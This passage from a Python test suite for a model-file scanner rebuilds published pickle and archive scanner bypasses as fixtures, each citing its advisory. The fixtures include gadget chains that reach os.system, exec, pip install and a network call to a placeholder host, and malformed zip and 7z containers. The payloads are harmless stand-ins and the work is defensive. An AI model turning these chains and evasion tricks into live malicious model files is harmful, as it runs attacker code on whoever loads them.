"""Every published bypass of a model-file scanner, rebuilt as a fixture Bastion must stop.

Each case cites the advisory or write-up it comes from and says in one line what the trick
is. The fixtures are built here from those descriptions (no exploit code is copied): pickles
assembled opcode by opcode, archives written with the real writers and then altered the way
the reports describe. Payloads are harmless (`true`, a `print`), and nothing here is ever
loaded: the scanner reads the bytes, the tests read the report.

What each case asserts is what a model hub needs: the default policy blocks the file (FAIL,
or INCOMPLETE where the trick is a file no scanner can open), and the finding that names the
technique reaches at least the stated severity. A published bypass of the form "the scanner
flagged it, but too low to block" is exactly this severity check failing.

`benchmark_corpus(folder)` builds every case into its own sub-folder for `benchmarks/scan.py`,
which scores Bastion and the peer scanners on the same fixtures ("bypasses" in its table).
"""

from __future__ import annotations

import base64
import contextlib
import io
import json
import pickle
import re
import struct
import subprocess
import sys
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import pytest

from bastion.findings import Finding, Severity, Verdict
from bastion.scan.api import scan_path
from corpus import builders, zips
from corpus.payloads import SystemCall
from corpus.pickles import (
    BUILD,
    EMPTY_DICT,
    EMPTY_TUPLE,
    MARK,
    MEMOIZE,
    NONE,
    OBJ,
    POP,
    PROTO2,
    PROTO4,
    REDUCE,
    SETITEM,
    STACK_GLOBAL,
    STOP,
    TUPLE1,
    binget,
    binunicode,
    glob,
    short_unicode,
)

# Harmless stand-ins for the reports' payloads; never executed (nothing here is loaded).
SHELL = "true"
CODE = "print('bastion-bypass-canary')"
TUPLE2 = b"\x86"
EMPTY_LIST = b"]"
APPENDS = b"e"

HUNTR = "huntr model-file-vulnerability PoC"
"""Proofs of concept published on Hugging Face for huntr's model-file program (2025-2026)."""

# Rule sets, by what the technique is. A case passes when one of its rules reaches its severity.
CALLS = frozenset({"pickle.dangerous-global", "pickle.unknown-callable", "pickle.attribute-path", "pickle.call-chain"})
DANGEROUS = frozenset({"pickle.dangerous-global"})
KERAS = frozenset({"keras.lambda-layer", "keras.unsafe-module", "keras.custom-object"})
TF_OPS = frozenset({"tf.python-op", "tf.file-op"})


@dataclass(frozen=True)
class Bypass:
    """One published trick, the fixture that reproduces it, and what Bastion must report."""

    id: str
    source: str
    """Advisory id or write-up title, and its URL."""
    trick: str
    build: Callable[[Path], Path]
    rules: frozenset[str]
    severity: Severity = Severity.HIGH
    verdicts: frozenset[Verdict] = frozenset({Verdict.FAIL})


CANARY = Path("/tmp/bastion-bypass-canary")
"""The marker the file-writing payloads name; it exists only if something ran them."""


def check(case: Bypass, tmp_path: Path) -> None:
    target = case.build(tmp_path)
    report = scan_path(target)
    assert not CANARY.exists(), f"{case.id}: scanning ran a payload (the canary {CANARY} exists)"
    verdict = report.verdict(Severity.HIGH)
    story = f"{case.id} ({case.trick}; {case.source}): {_summary(report.findings)}"
    assert verdict in case.verdicts, f"expected {sorted(v.value for v in case.verdicts)}, got {verdict.value}: {story}"
    named = [f for f in report.findings if _names_technique(f.rule_id, case.rules) and f.severity >= case.severity]
    assert named, f"expected one of {sorted(case.rules)} at {case.severity.name} or above: {story}"


def _names_technique(rule_id: str, rules: frozenset[str]) -> bool:
    # "torchscript.*" stands for any rule of that family, for formats with no rule yet.
    return rule_id in rules or any(r.endswith(".*") and rule_id.startswith(r[:-1]) for r in rules)


def _summary(findings: tuple[Finding, ...]) -> str:
    # Evidence can be a whole base64 payload: keep each finding to one readable line.
    return "; ".join(f"{f.rule_id} {f.severity.name}: {f.message[:160]}" for f in findings) or "no findings"


# -- pickle assembly -----------------------------------------------------------------------------


def stack_global(module: str, name: str) -> bytes:
    """STACK_GLOBAL from two short strings (protocol 4): the name may be a dotted qualname."""
    return short_unicode(module) + short_unicode(name) + STACK_GLOBAL


def args(*values: object) -> bytes:
    """The opcodes that push `values` as one tuple (plain data only, written by pickle itself)."""
    return pickle.dumps(tuple(values), protocol=3)[2:-1]


def call(module: str, name: str, *values: object) -> bytes:
    """A whole stream: import `module.name` and call it with `values`, as a `__reduce__` would."""
    return PROTO4 + stack_global(module, name) + args(*values) + REDUCE + STOP


NESTED_OS_SYSTEM = PROTO2 + glob("os", "system") + binunicode(SHELL) + TUPLE1 + REDUCE + STOP
"""A complete malicious pickle, carried as bytes by gadgets that unpickle their argument."""


@dataclass(frozen=True)
class FileWith:
    """Builds a file holding exactly `data` (kept, so the stream itself can be checked)."""

    name: str
    data: bytes

    def __call__(self, folder: Path) -> Path:
        path = folder / self.name
        path.write_bytes(self.data)
        return path


# -- picklescan advisories: callables missing from a deny-list -----------------------------------
# https://github.com/mmaitre314/picklescan/security: each advisory is one callable that runs code
# (or a shell, or another pickle) and was missing from picklescan's list of unsafe globals.
# Bastion's rule is allow-list first: every such callable must be refused at HIGH or above.

PICKLESCAN = "https://github.com/mmaitre314/picklescan/security/advisories/"

_GADGETS: tuple[tuple[str, str, str, tuple[object, ...], str], ...] = (
    (
        "GHSA-4r9r-ch6f-vxmx",
        "torch.utils.bottleneck.__main__",
        "run_cprofile",
        (CODE, {}),
        "exec under cProfile in torch",
    ),
    (
        "GHSA-4whj-rm5r-c2v8",
        "torch.utils.bottleneck.__main__",
        "run_autograd_prof",
        (CODE, {}),
        "exec under autograd profiler",
    ),
    ("GHSA-86cj-95qr-2p4f", "torch._dynamo.guards", "GuardBuilder.get", ({}, CODE), "eval of a guard expression"),
    (
        "GHSA-f4x7-rfwp-v3xw",
        "torch.fx.experimental.symbolic_shapes",
        "ShapeEnv.evaluate_guards_expression",
        ({}, CODE, []),
        "eval of a shape-guard expression",
    ),
    ("GHSA-f745-w6jp-hpxx", "torch.utils.collect_env", "run", (SHELL,), "shell command from torch's env collector"),
    (
        "GHSA-vr7h-p6mm-wpmh",
        "torch.jit.unsupported_tensor_ops",
        "execWrapper",
        (CODE, {}, {}),
        "exec wrapper in torch.jit",
    ),
    ("GHSA-5qwp-399c-mjwf", "trace", "Trace.run", ({}, CODE), "trace.Trace.run execs its string"),
    ("GHSA-g344-hcph-8vgg", "trace", "Trace.runctx", ({}, CODE, {}, {}), "trace.Trace.runctx execs its string"),
    ("GHSA-x696-vm39-cp64", "profile", "Profile.run", ({}, CODE), "profile.Profile.run execs its string"),
    ("GHSA-6vqj-c2q5-j97w", "profile", "Profile.runctx", ({}, CODE, {}, {}), "profile.Profile.runctx execs its string"),
    ("GHSA-3vg9-h568-4w9m", "idlelib.debugobj", "ObjectTreeItem.SetText", ({}, CODE), "IDLE tree item evals its text"),
    (
        "GHSA-6w4w-5w54-rjvr",
        "idlelib.autocomplete",
        "AutoComplete.get_entity",
        ({}, CODE),
        "IDLE autocomplete evals a name",
    ),
    (
        "GHSA-7cq8-mj8x-j263",
        "idlelib.autocomplete",
        "AutoComplete.fetch_completions",
        ({}, CODE, 1),
        "IDLE completion evals its argument",
    ),
    (
        "GHSA-cj3c-v495-4xqh",
        "code",
        "InteractiveInterpreter.runcode",
        ({}, CODE),
        "code.InteractiveInterpreter runs code",
    ),
    ("GHSA-8r4j-24qv-fmq9", "idlelib.calltip", "Calltip.fetch_tip", ({}, CODE), "IDLE calltip evals an expression"),
    ("GHSA-9xph-j2h6-g47v", "idlelib.calltip", "get_entity", (CODE,), "IDLE get_entity evals an expression"),
    ("GHSA-xp4f-hrf8-rxw7", "ensurepip", "_run_pip", (["install", "example-package"],), "ensurepip runs pip"),
    (
        "GHSA-p9w7-82w4-7q8m",
        "lib2to3.pgen2.pgen",
        "ParserGenerator.make_label",
        (None, {}, '""+' + CODE),
        "lib2to3 evals a grammar label",
    ),
    ("GHSA-m869-42cg-3xwr", "idlelib.run", "Executive.runcode", ({}, CODE), "IDLE executive runs code"),
    (
        "GHSA-j343-8v2j-ff7w",
        "idlelib.pyshell",
        "ModifiedInterpreter.runcommand",
        ({}, CODE),
        "IDLE shell runs a command",
    ),
    ("GHSA-3gf5-cxq9-w223", "idlelib.pyshell", "ModifiedInterpreter.runcode", ({}, CODE), "IDLE shell runs code"),
    ("GHSA-fqq6-7vqf-w3fg", "doctest", "debug_script", (CODE, True), "doctest.debug_script execs a script"),
    ("GHSA-9w88-8rmg-7g2p", "cProfile", "runctx", (CODE, None, None), "cProfile.runctx execs its string"),
    ("GHSA-49gj-c84q-6qm9", "cProfile", "run", (CODE,), "cProfile.run execs its string"),
    (
        "GHSA-q77w-mwjj-7mqx",
        "asyncio.unix_events",
        "_UnixSubprocessTransport._start",
        ({}, SHELL, True, None, None, None, 0),
        "asyncio's subprocess transport spawns a shell",
    ),
    ("GHSA-m273-6v24-x4m4", "distutils.file_util", "write_file", ("pwned.env", ["content"]), "distutils writes a file"),
    ("GHSA-4675-36f9-wf6r", "ctypes", "CDLL", (None,), "ctypes loads native code"),
    ("GHSA-vqmv-47xg-9wpr", "pty", "spawn", (["/bin/sh", "-c", SHELL],), "pty.spawn runs a program"),
    ("GHSA-r8g5-cgf2-4m4m", "numpy.f2py.crackfortran", "getlincoef", (CODE, []), "numpy.f2py evals an expression"),
    ("GHSA-v7x6-rv5q-mhwc", "timeit", "timeit", ("", CODE), "timeit compiles and runs its setup string"),
    (
        "GHSA-hgrh-qx5j-jfwx",
        "ssl",
        "get_server_certificate",
        (("example.invalid", 443),),
        "network call (DNS exfiltration)",
    ),
    (
        "GHSA-655q-fx9r-782v",
        "torch._inductor.codecache",
        "compile_file",
        ("", "", ["sh", "-c", SHELL]),
        "torch inductor runs a compiler command",
    ),
    ("GHSA-655q-fx9r-782v", "pydoc", "pipepager", ("", SHELL), "pydoc pipes text into a shell command"),
    (
        "GHSA-655q-fx9r-782v",
        "venv",
        "create",
        ("venv", False, False, True, False, SHELL),
        "venv.create runs a prompt command",
    ),
)


def _gadget_case(ghsa: str, module: str, name: str, values: tuple[object, ...], trick: str) -> Bypass:
    slug = name.replace(".", "-").replace("_", "").lower()
    return Bypass(
        f"picklescan-{ghsa}-{slug}",
        f"{ghsa}, {PICKLESCAN}{ghsa}",
        trick,
        FileWith("model.pkl", call(module, name, *values)),
        CALLS,
    )


# run_and_read_all(run, cmd): the runner is itself a global handed over as an argument.
_RUN_AND_READ_ALL = (
    PROTO4
    + stack_global("torch.utils.collect_env", "run_and_read_all")
    + stack_global("torch.utils.collect_env", "run")
    + short_unicode(SHELL)
    + TUPLE2
    + REDUCE
    + STOP
)

# operator.methodcaller("system", cmd)(pydoc.locate("os")): neither name is os.system.
_METHODCALLER_LOCATE = (
    PROTO4
    + stack_global("operator", "methodcaller")
    + short_unicode("system")
    + short_unicode(SHELL)
    + TUPLE2
    + REDUCE
    + stack_global("pydoc", "locate")
    + short_unicode("os")
    + TUPLE1
    + REDUCE
    + TUPLE1
    + REDUCE
    + STOP
)

# pkgutil.resolve_name("os:system")(cmd): one unlisted resolver reaches every listed function.
_RESOLVE_NAME = (
    PROTO4
    + stack_global("pkgutil", "resolve_name")
    + short_unicode("os:system")
    + TUPLE1
    + REDUCE
    + short_unicode(SHELL)
    + TUPLE1
    + REDUCE
    + STOP
)

# _operator.attrgetter("system")(builtins.__import__("os"))(cmd): the C module's name, not operator's.
_C_OPERATOR_ATTRGETTER = (
    PROTO4
    + stack_global("_operator", "attrgetter")
    + short_unicode("system")
    + TUPLE1
    + REDUCE
    + stack_global("builtins", "__import__")
    + short_unicode("os")
    + TUPLE1
    + REDUCE
    + TUPLE1
    + REDUCE
    + short_unicode(SHELL)
    + TUPLE1
    + REDUCE
    + STOP
)


# functools.partial(torch.load, path) with weights_only=False set through BUILD state, then called.
def _partial_torch_load() -> bytes:
    # partial.__setstate__ takes (func, args, kwds, namespace).
    state = stack_global("torch", "load") + args("other_model.bin")
    state += EMPTY_DICT + short_unicode("weights_only") + b"\x89" + SETITEM + NONE
    return (
        PROTO4
        + stack_global("functools", "partial")
        + stack_global("torch", "load")
        + TUPLE1
        + REDUCE
        + MARK
        + state
        + b"t"  # TUPLE (from MARK): (func, args, kwds, None)
        + BUILD
        + EMPTY_TUPLE
        + REDUCE
        + STOP
    )


# GHSA-9gvj-pp9x-gcfr: STACK_GLOBAL fed by protocol-0 STRING opcodes, which yield str in Python 3.
_STRING_STACK_GLOBAL = b"S'os'\nS'system'\n" + STACK_GLOBAL + b"S'" + SHELL.encode() + b"'\n" + TUPLE1 + REDUCE + STOP

# picklescan issue #22 (ImaginaryCTF "Safe Pickle"): names stored with PUT and fetched with GET in
# another order, with a decoy torch.LongStorage pair in the memo.
_MEMO_SHUFFLE = (
    b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0"
    + b"g2\ng3\n"
    + STACK_GLOBAL
    + MARK
    + b"V"
    + SHELL.encode()
    + b"\nt"
    + REDUCE
    + STOP
)

# GHSA-g38g-8gr9-h9xp (CVE-2026-56315): standard-library helpers that run a command.
_STDLIB_COMMANDS = (
    ("uuid", "_get_command_stdout", (SHELL,), "uuid runs a helper command"),
    ("imaplib", "IMAP4_stream", (SHELL,), "imaplib spawns its stream command"),
    ("_osx_support", "_read_output", (SHELL,), "_osx_support runs a command string"),
    ("_aix_support", "_read_cmd_output", (SHELL,), "_aix_support runs a command string"),
    ("_pyrepl.pager", "pipe_pager", ("text", SHELL), "the new REPL's pager pipes text into a command"),
)

# picklescan's own regression samples, each added when a bypass was reported.
PICKLESCAN_CORPUS = (
    "picklescan regression samples, tests/init_data_files.py, "
    "https://github.com/mmaitre314/picklescan/blob/main/tests/init_data_files.py"
)

# The payload runs first; then BINGET of a memo slot never set makes the loader raise KeyError.
_KEYERROR_AFTER_PAYLOAD = (
    PROTO4
    + glob("os", "system")
    + short_unicode(SHELL)
    + TUPLE1
    + REDUCE
    + POP
    + short_unicode("os")
    + MEMOIZE
    + binget(3)
    + binget(0)
    + STACK_GLOBAL
    + b"K\x42"
    + STOP
)

# The payload runs first; then STACK_GLOBAL is handed an int, which the loader refuses.
_TYPE_CONFUSION_AFTER_PAYLOAD = (
    PROTO4
    + glob("os", "system")
    + short_unicode(SHELL)
    + TUPLE1
    + REDUCE
    + POP
    + b"J"
    + struct.pack("<i", 42)
    + MEMOIZE
    + short_unicode("os")
    + MEMOIZE
    + binget(0)
    + binget(1)
    + STACK_GLOBAL
    + b"K\x42"
    + STOP
)

# Sour Pickles (BlackHat US 2011), still in every scanner's corpus: globals/compile/eval chained in protocol 0.
_SOUR_PICKLE = (
    b"c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S'" + CODE.encode() + b"'\nS''\nS'exec'\ntRp101\n0"
    b"c__builtin__\neval\n(g101\ng100\ntRp102\n0g102\n."
)

_PICKLESCAN_CORPUS: tuple[tuple[str, str, bytes, frozenset[str], Severity], ...] = (
    (
        "inst-exec",
        "INST imports and calls __builtin__.exec in one opcode",
        b"(S'" + CODE.encode() + b"'\ni__builtin__\nexec\n.",
        DANGEROUS,
        Severity.CRITICAL,
    ),
    (
        "sour-pickles-compile-eval",
        "compile then eval, with globals() as the namespace",
        _SOUR_PICKLE,
        DANGEROUS,
        Severity.CRITICAL,
    ),
    ("bdb-run", "bdb.Bdb.run execs a statement", call("bdb", "Bdb.run", {}, CODE), CALLS, Severity.HIGH),
    ("runpy-run-code", "runpy._run_code execs a string", call("runpy", "_run_code", CODE, {}), CALLS, Severity.HIGH),
    (
        "c-pickle-loads",
        "_pickle.loads (the C module's name) of a nested malicious pickle",
        call("_pickle", "loads", NESTED_OS_SYSTEM),
        CALLS,
        Severity.HIGH,
    ),
    (
        "cpickle-loads-protocol-0",
        "cPickle.loads, the Python 2 name mapped by fix_imports, of a nested pickle",
        glob("cPickle", "loads") + pickle.dumps((NESTED_OS_SYSTEM,), protocol=0)[:-1] + REDUCE + STOP,
        CALLS,
        Severity.HIGH,
    ),
    (
        "numpy-testing-runstring",
        "numpy.testing's runstring execs a string",
        call("numpy.testing._private.utils", "runstring", CODE, {}),
        CALLS,
        Severity.HIGH,
    ),
    (
        "keyerror-after-payload",
        "os.system runs, then a missing memo key aborts the load and the scan",
        _KEYERROR_AFTER_PAYLOAD,
        DANGEROUS,
        Severity.CRITICAL,
    ),
    (
        "type-confusion-after-payload",
        "os.system runs, then STACK_GLOBAL gets an int and the load aborts",
        _TYPE_CONFUSION_AFTER_PAYLOAD,
        DANGEROUS,
        Severity.CRITICAL,
    ),
    ("io-fileio", "io.FileIO opens any file", call("io", "FileIO", "/etc/hostname", "r"), CALLS, Severity.HIGH),
    (
        "urlopen",
        "urllib.request.urlopen fetches a URL",
        call("urllib.request", "urlopen", "https://example.invalid"),
        CALLS,
        Severity.HIGH,
    ),
    (
        "second-stream",
        "a benign pickle followed by a second, malicious stream in the same file",
        pickle.dumps(["a", "b", "c"]) + NESTED_OS_SYSTEM,
        DANGEROUS,
        Severity.CRITICAL,
    ),
)

PICKLESCAN_CASES: tuple[Bypass, ...] = (
    *(_gadget_case(*g) for g in _GADGETS),
    Bypass(
        "picklescan-CVE-2025-1716-pip-main",
        "CVE-2025-1716 (Sonatype), https://nvd.nist.gov/vuln/detail/CVE-2025-1716",
        "pip.main installs a package from anywhere",
        FileWith("model.pkl", call("pip", "main", ["install", "example-package", "--no-input", "-q"])),
        CALLS,
    ),
    Bypass(
        "picklescan-GHSA-jhph-76pp-mggw-run-and-read-all",
        f"GHSA-jhph-76pp-mggw, {PICKLESCAN}GHSA-jhph-76pp-mggw",
        "a runner passed as an argument to torch's run_and_read_all",
        FileWith("model.pkl", _RUN_AND_READ_ALL),
        CALLS,
    ),
    Bypass(
        "picklescan-GHSA-h3qp-7fh3-f8h4-datapipe-decoder",
        f"GHSA-h3qp-7fh3-f8h4, {PICKLESCAN}GHSA-h3qp-7fh3-f8h4",
        "torch datapipe decoder unpickles the bytes it is handed",
        FileWith(
            "model.pkl", call("torch.utils.data.datapipes.utils.decoder", "basichandlers", "pickle", NESTED_OS_SYSTEM)
        ),
        CALLS,
    ),
    Bypass(
        "picklescan-GHSA-vv6j-3g6g-2pvj-config-module-load",
        f"GHSA-vv6j-3g6g-2pvj, {PICKLESCAN}GHSA-vv6j-3g6g-2pvj",
        "torch ConfigModule.load_config unpickles its bytes",
        FileWith("model.pkl", call("torch.utils._config_module", "ConfigModule.load_config", {}, NESTED_OS_SYSTEM)),
        CALLS,
    ),
    Bypass(
        "picklescan-GHSA-f54q-57x4-jg88-grammar-loads",
        f"GHSA-f54q-57x4-jg88, {PICKLESCAN}GHSA-f54q-57x4-jg88",
        "lib2to3 Grammar.loads unpickles its bytes",
        FileWith("model.pkl", call("lib2to3.pgen2.grammar", "Grammar.loads", {}, NESTED_OS_SYSTEM)),
        CALLS,
    ),
    Bypass(
        "picklescan-GHSA-84r2-jw7c-4r5q-methodcaller-locate",
        f"GHSA-84r2-jw7c-4r5q, {PICKLESCAN}GHSA-84r2-jw7c-4r5q",
        "operator.methodcaller('system') applied to pydoc.locate('os')",
        FileWith("model.pkl", _METHODCALLER_LOCATE),
        CALLS,
    ),
    Bypass(
        "picklescan-GHSA-vvpj-8cmc-gx39-pkgutil-resolve-name",
        f"GHSA-vvpj-8cmc-gx39 (reported by ModelAudit), {PICKLESCAN}GHSA-vvpj-8cmc-gx39",
        "pkgutil.resolve_name('os:system') reaches any function by a string",
        FileWith("model.pkl", _RESOLVE_NAME),
        CALLS,
    ),
    Bypass(
        "picklescan-GHSA-955r-x9j8-7rhh-c-operator",
        "GHSA-955r-x9j8-7rhh and GHSA-46h3-79wf-xr6c (fixed by picklescan PR #54 'Fix _operator'), "
        "https://github.com/mmaitre314/picklescan/pull/54",
        "the C accelerator _operator.attrgetter instead of operator.attrgetter",
        FileWith("model.pkl", _C_OPERATOR_ATTRGETTER),
        CALLS,
    ),
    Bypass(
        "picklescan-GHSA-655q-fx9r-782v-partial-torch-load",
        f"GHSA-655q-fx9r-782v, {PICKLESCAN}GHSA-655q-fx9r-782v",
        "functools.partial(torch.load, other file, weights_only=False) called on load",
        FileWith("model.pkl", _partial_torch_load()),
        CALLS,
    ),
    Bypass(
        "picklescan-GHSA-9gvj-pp9x-gcfr-string-stack-global",
        f"GHSA-9gvj-pp9x-gcfr, {PICKLESCAN}GHSA-9gvj-pp9x-gcfr",
        "STACK_GLOBAL's names pushed with protocol-0 STRING opcodes",
        FileWith("model.pkl", _STRING_STACK_GLOBAL),
        DANGEROUS,
        Severity.CRITICAL,
    ),
    Bypass(
        "picklescan-issue-22-memo-shuffle",
        "picklescan issue #22 (ImaginaryCTF 'Safe Pickle'), https://github.com/mmaitre314/picklescan/issues/22",
        "memo PUT/GET reorders names so STACK_GLOBAL builds os.system next to a torch decoy",
        FileWith("model.pkl", _MEMO_SHUFFLE),
        DANGEROUS,
        Severity.CRITICAL,
    ),
    *(
        Bypass(
            f"picklescan-GHSA-g38g-8gr9-h9xp-{module.strip('_').replace('.', '-')}",
            f"GHSA-g38g-8gr9-h9xp (CVE-2026-56315), {PICKLESCAN}GHSA-g38g-8gr9-h9xp",
            trick,
            FileWith("model.pkl", call(module, name, *values)),
            CALLS,
        )
        for module, name, values, trick in _STDLIB_COMMANDS
    ),
    Bypass(
        "picklescan-GHSA-7wx9-6375-f5wh-profile-run",
        f"GHSA-7wx9-6375-f5wh (reported by ModelAudit), {PICKLESCAN}GHSA-7wx9-6375-f5wh",
        "the module-level profile.run execs its string (the class methods were already listed)",
        FileWith("model.pkl", call("profile", "run", CODE)),
        CALLS,
    ),
    Bypass(
        "picklescan-GHSA-9m3x-qqw2-h32h-own-class-method",
        f"GHSA-9m3x-qqw2-h32h, {PICKLESCAN}GHSA-9m3x-qqw2-h32h",
        "a static method of the attacker's own class wraps eval: the stream names only __main__.EvilClass._obfuscated_eval",
        FileWith("model.pkl", call("__main__", "EvilClass._obfuscated_eval", CODE)),
        CALLS,
    ),
    *(
        Bypass(f"picklescan-corpus-{slug}", PICKLESCAN_CORPUS, trick, FileWith("model.pkl", data), rules, severity)
        for slug, trick, data, rules, severity in _PICKLESCAN_CORPUS
    ),
    Bypass(
        "picklescan-CVE-2026-56304-logging-filehandler",
        "CVE-2026-56304 (picklescan < 1.0.1), https://nvd.nist.gov/vuln/detail/CVE-2026-56304",
        "logging.FileHandler creates files wherever the stream says",
        FileWith("model.pkl", call("logging", "FileHandler", str(CANARY))),
        CALLS,
    ),
)


@pytest.mark.parametrize("case", PICKLESCAN_CASES, ids=lambda c: c.id)
def test_picklescan_advisory_is_blocked(case: Bypass, tmp_path: Path) -> None:
    check(case, tmp_path)


# -- archives that picklescan read differently from PyTorch (Sonatype, JFrog) --------------------


def _torch_malicious(folder: Path, name: str = "pytorch_model.bin") -> bytes:
    return builders.torch_malicious(folder, name).read_bytes()


def _with_flag_bits(data: bytes, suffix: str, bits: int) -> bytes:
    """The archive with general-purpose flag `bits` set on the member ending in `suffix`, in both headers."""
    out = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        (info,) = [i for i in archive.infolist() if i.filename.endswith(suffix)]
    struct.pack_into("<H", out, info.header_offset + 6, struct.unpack_from("<H", out, info.header_offset + 6)[0] | bits)
    eocd = data.rfind(b"PK\x05\x06")
    count, _size, pos = struct.unpack_from("<HII", data, eocd + 10)
    for _ in range(count):
        nlen, xlen, clen = struct.unpack_from("<HHH", data, pos + 28)
        if data[pos + 46 : pos + 46 + nlen].decode().endswith(suffix):
            struct.pack_into("<H", out, pos + 8, struct.unpack_from("<H", out, pos + 8)[0] | bits)
        pos += 46 + nlen + xlen + clen
    return bytes(out)


def _torch_altered(alter: Callable[[bytes], bytes], name: str = "pytorch_model.bin") -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        source = folder / "source"
        source.mkdir()
        path = folder / name
        path.write_bytes(alter(_torch_malicious(source, name)))
        return path

    return build


def _zip_of(member: str, data: bytes, name: str) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        return builders.zip_with(folder, name, {member: data})

    return build


SONATYPE = "Sonatype, 'Picklescan vulnerabilities' (CVE-2025-1716, -1889, -1944, -1945)"
JFROG_ZERO_DAYS = (
    "JFrog, 'PyTorch Users at Risk: Unveiling 3 Zero-Day PickleScan Vulnerabilities', "
    "https://jfrog.com/blog/unveiling-3-zero-day-vulnerabilities-in-picklescan/"
)

ARCHIVE_CASES: tuple[Bypass, ...] = (
    *(
        Bypass(
            f"sonatype-CVE-2025-1945-zip-flag-{bits:#04x}",
            f"{SONATYPE}; GHSA-w8jq-xcqf-f792, {PICKLESCAN}GHSA-w8jq-xcqf-f792",
            f"general-purpose flag bit {bits:#x} on data.pkl: Python's zipfile refuses it, PyTorch ignores it",
            _torch_altered(lambda data, bits=bits: _with_flag_bits(data, "data.pkl", bits)),
            DANGEROUS,
            Severity.CRITICAL,
        )
        for bits in (0x1, 0x20, 0x40)
    ),
    Bypass(
        "sonatype-CVE-2025-1944-local-name-mismatch",
        f"{SONATYPE}; GHSA-7q5r-7gvp-wc82, {PICKLESCAN}GHSA-7q5r-7gvp-wc82",
        "the local header names data.pkl 'datap.kl' while the central directory keeps data.pkl",
        _torch_altered(lambda data: zips.with_local_name(data, "data.pkl", "datap.kl")),
        DANGEROUS,
        Severity.CRITICAL,
    ),
    Bypass(
        "sonatype-CVE-2025-1889-member-extension",
        f"{SONATYPE}; GHSA-769v-p64c-89pr, {PICKLESCAN}GHSA-769v-p64c-89pr",
        "the pickle sits in a zip member named data.txt, not .pkl",
        _zip_of("data.txt", NESTED_OS_SYSTEM, "model.zip"),
        DANGEROUS,
        Severity.CRITICAL,
    ),
    Bypass(
        "jfrog-CVE-2025-10155-pickle-named-bin",
        f"{JFROG_ZERO_DAYS}; GHSA-gx77-x2pv-48v7, {PICKLESCAN}GHSA-gx77-x2pv-48v7",
        "a plain pickle named pytorch_model.bin: the PyTorch parser fails and no pickle scan follows",
        FileWith("pytorch_model.bin", pickle.dumps(SystemCall(SHELL), protocol=4)),
        DANGEROUS,
        Severity.CRITICAL,
    ),
    Bypass(
        "jfrog-CVE-2025-10156-bad-crc",
        JFROG_ZERO_DAYS,
        "data.pkl's CRC is wrong: zipfile raises, PyTorch's reader loads it anyway",
        _torch_altered(lambda data: zips.with_bad_crc(data, "data.pkl")),
        DANGEROUS,
        Severity.CRITICAL,
    ),
    Bypass(
        "jfrog-CVE-2025-10157-submodule-of-unsafe-module",
        f"{JFROG_ZERO_DAYS}; GHSA-jgw4-cr84-mqxg, {PICKLESCAN}GHSA-jgw4-cr84-mqxg",
        "asyncio.unix_events (a submodule of a listed module) spawns a shell, in a .bin file",
        FileWith(
            "pytorch_model.bin",
            call("asyncio.unix_events", "_UnixSubprocessTransport._start", {}, SHELL, True, None, None, None, 0),
        ),
        CALLS,
    ),
)


@pytest.mark.parametrize("case", ARCHIVE_CASES, ids=lambda c: c.id)
def test_archive_read_differently_from_pytorch_is_blocked(case: Bypass, tmp_path: Path) -> None:
    check(case, tmp_path)


# -- ReversingLabs "nullifAI" ---------------------------------------------------------------------
# ReversingLabs, "Malicious ML models discovered on Hugging Face platform" (nullifAI, Feb 2025),
# https://www.reversinglabs.com/blog/rl-identifies-malware-ml-model-hosted-on-hugging-face

NULLIFAI = (
    "ReversingLabs, 'Malicious ML models discovered on Hugging Face platform' (nullifAI), "
    "https://www.reversinglabs.com/blog/rl-identifies-malware-ml-model-hosted-on-hugging-face"
)

# The payload first, then a BINUNICODE whose length runs past the end: the unpickler has already
# called exec when it fails, and a scanner that gives up on the error sees nothing.
BROKEN_AFTER_PAYLOAD = (
    PROTO2
    + glob("builtins", "exec")
    + binunicode(CODE)
    + TUPLE1
    + REDUCE
    + POP
    + b"X"
    + struct.pack("<I", 0x7FFF)
    + b"\x00junk"
)


def _seven_zip(member: str, payload: bytes) -> bytes:
    """A 7z archive with one member stored by the Copy coder (7-Zip's format, written by hand)."""

    def number(value: int) -> bytes:
        # 7z's variable-length numbers: one byte below 0x80, two (0b10 prefix) below 0x4000.
        if value < 0x80:
            return bytes([value])
        assert value < 0x4000
        return bytes([0x80 | (value >> 8), value & 0xFF])

    name = member.encode("utf-16-le") + b"\x00\x00"
    size = number(len(payload))
    pack_info = b"\x06" + number(0) + number(1) + b"\x09" + size + b"\x00"  # one packed stream
    copy_folder = number(1) + b"\x01\x00"  # one coder, id size 1, id 0x00: Copy
    unpack_info = b"\x07\x0b" + number(1) + b"\x00" + copy_folder + b"\x0c" + size + b"\x00"
    substreams = b"\x08\x0a\x01" + struct.pack("<I", zlib.crc32(payload)) + b"\x00"  # the member's CRC
    files_info = b"\x05" + number(1) + b"\x11" + number(len(name) + 1) + b"\x00" + name + b"\x00"
    header = b"\x01\x04" + pack_info + unpack_info + substreams + b"\x00" + files_info + b"\x00"
    tail = struct.pack("<QQI", len(payload), len(header), zlib.crc32(header))
    start = b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(tail)) + tail
    return start + payload + header


def _torch_with_data_pkl(payload: bytes) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        source = builders.torch_state_dict(folder, "source.pt").read_bytes()
        path = folder / "pytorch_model.bin"
        path.write_bytes(zips.with_member_replaced(source, "data.pkl", payload))
        return path

    return build


def _seven_zipped_torch(folder: Path) -> Path:
    inner = _torch_with_data_pkl(BROKEN_AFTER_PAYLOAD)(folder).read_bytes()
    path = folder / "pytorch_model.7z.bin"
    path.write_bytes(_seven_zip("pytorch_model.bin", inner))
    return path


NULLIFAI_CASES: tuple[Bypass, ...] = (
    Bypass(
        "nullifai-broken-pickle-in-torch-zip",
        NULLIFAI,
        "the payload runs before a corrupt opcode stops the unpickler; scanners that fail on the error pass it",
        _torch_with_data_pkl(BROKEN_AFTER_PAYLOAD),
        DANGEROUS,
        Severity.CRITICAL,
    ),
    Bypass(
        "nullifai-broken-plain-pickle",
        NULLIFAI,
        "the same broken stream as a bare pickle file",
        FileWith("model.pkl", BROKEN_AFTER_PAYLOAD),
        DANGEROUS,
        Severity.CRITICAL,
    ),
